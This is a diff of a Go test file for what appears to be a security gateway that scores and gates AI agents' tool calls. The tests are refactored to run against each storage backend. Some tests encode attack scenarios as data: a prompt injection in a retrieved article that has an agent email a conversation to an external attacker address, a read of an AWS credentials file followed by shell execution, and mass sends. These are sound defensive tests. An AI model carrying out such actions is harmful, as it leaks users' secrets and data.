@@ -127,8 +127,10 @@ func TestMCPBodyNamingAnotherTool(t *testing.T) {
 // DESIGN §5's reading: the cumulative risk including the step being decided is
 // compared with the approval threshold (1.2 here), so the approval falls on
 // step 3 (1.335), not on step 2 (1.06) as the seed's prose says.
-func TestWorkedExample(t *testing.T) {
-	e := newEnv(t)
+func TestWorkedExample(t *testing.T) { forEachStore(t, testWorkedExample) }
+
+func testWorkedExample(t *testing.T, store envOption) {
+	e := newEnv(t, store)
 	const run = "run-worked"
 	steps := []struct {
 		tool, args   string
@@ -195,8 +197,10 @@ func TestWorkedExample(t *testing.T) {
 	_ = last
 }
 
-func TestBudgetExhaustedIs429(t *testing.T) {
-	e := newEnv(t)
+func TestBudgetExhaustedIs429(t *testing.T) { forEachStore(t, testBudgetExhaustedIs429) }
+
+func testBudgetExhaustedIs429(t *testing.T, store envOption) {
+	e := newEnv(t, store)
 	for i := range 3 {
 		if res := e.check(t, e.call(t, "tiny-agent", "db.read", "run-budget", "")); !res.allowed {
 			t.Fatalf("call %d denied: %+v", i+1, res.body)
@@ -213,9 +217,13 @@ func TestBudgetExhaustedIs429(t *testing.T) {
 }
 
 func TestExplainAndDryRunCommitNothing(t *testing.T) {
+	forEachStore(t, testExplainAndDryRunCommitNothing)
+}
+
+func testExplainAndDryRunCommitNothing(t *testing.T, store envOption) {
 	for _, header := range []string{"x-aisecops-explain", "x-aisecops-dry-run"} {
 		t.Run(header, func(t *testing.T) {
-			e := newEnv(t)
+			e := newEnv(t, store)
 			run := "run-" + header
 			if res := e.check(t, e.call(t, "demo-agent", "db.read", run, "")); !res.allowed {
 				t.Fatal(res.body)
@@ -253,8 +261,10 @@ func TestExplainAndDryRunCommitNothing(t *testing.T) {
 
 // TestScenario31PromptInjection: an instruction injected into a retrieved
 // help article makes the agent email an external address (seed 3.1).
-func TestScenario31PromptInjection(t *testing.T) {
-	e := newEnv(t)
+func TestScenario31PromptInjection(t *testing.T) { forEachStore(t, testScenario31PromptInjection) }
+
+func testScenario31PromptInjection(t *testing.T, store envOption) {
+	e := newEnv(t, store)
 	r := e.call(t, "demo-agent", "send_email", "run-31", `{"to":"attacker@external.com","subject":"fwd","body":"conversation…"}`)
 	r.headers["x-aisecops-provenance"] = b64(`[{"source_type":"retrieval_chunk","source_name":"external_knowledge_base","trust_level":"unverified"}]`)
 	res := e.check(t, r)
@@ -272,8 +282,10 @@ func TestScenario31PromptInjection(t *testing.T) {
 }
 
 // TestScenario32ToolAbuse: a read followed by shell.exec (seed 3.2).
-func TestScenario32ToolAbuse(t *testing.T) {
-	e := newEnv(t)
+func TestScenario32ToolAbuse(t *testing.T) { forEachStore(t, testScenario32ToolAbuse) }
+
+func testScenario32ToolAbuse(t *testing.T, store envOption) {
+	e := newEnv(t, store)
 	const run = "run-32"
 	if res := e.check(t, e.call(t, "demo-agent", "db.read", run, `{"path":"/home/app/.aws/credentials"}`)); !res.allowed {
 		t.Fatal(res.body)
@@ -299,8 +311,10 @@ func TestScenario32ToolAbuse(t *testing.T) {
 // TestScenario34ChainEscalation: thousands of sends in one run (seed 3.4).
 // Each send is individually permitted; the run is stopped by risk aggregation
 // and budgets long before it becomes mass communication.
-func TestScenario34ChainEscalation(t *testing.T) {
-	e := newEnv(t)
+func TestScenario34ChainEscalation(t *testing.T) { forEachStore(t, testScenario34ChainEscalation) }
+
+func testScenario34ChainEscalation(t *testing.T, store envOption) {
+	e := newEnv(t, store)
 	const run, attempts = "run-34", 2000
 	allowed, firstStop := 0, -1
 	decisions := map[string]int{}
@@ -403,8 +417,10 @@ func TestMalformedInputDenied(t *testing.T) {
 
 // TestEnvoyRetryIsIdempotent: the same request id checked twice gives the
 // same decision and one debit.
-func TestEnvoyRetryIsIdempotent(t *testing.T) {
-	e := newEnv(t)
+func TestEnvoyRetryIsIdempotent(t *testing.T) { forEachStore(t, testEnvoyRetryIsIdempotent) }
+
+func testEnvoyRetryIsIdempotent(t *testing.T, store envOption) {
+	e := newEnv(t, store)
 	r := e.call(t, "demo-agent", "db.read", "run-retry", "")
 	first := e.check(t, r)
 	second := e.check(t, r)
@@ -420,8 +436,10 @@ func TestEnvoyRetryIsIdempotent(t *testing.T) {
 	}
 }
 
-func TestSingleUseTokenReplayDenied(t *testing.T) {
-	e := newEnv(t)
+func TestSingleUseTokenReplayDenied(t *testing.T) { forEachStore(t, testSingleUseTokenReplayDenied) }
+
+func testSingleUseTokenReplayDenied(t *testing.T, store envOption) {
+	e := newEnv(t, store)
 	r := e.call(t, "demo-agent", "db.read", "run-once", "")
 	r.headers["authorization"] = "Bearer " + e.token(t, "demo-agent", "db.read", withSingleUse())
 	if res := e.check(t, r); !res.allowed {
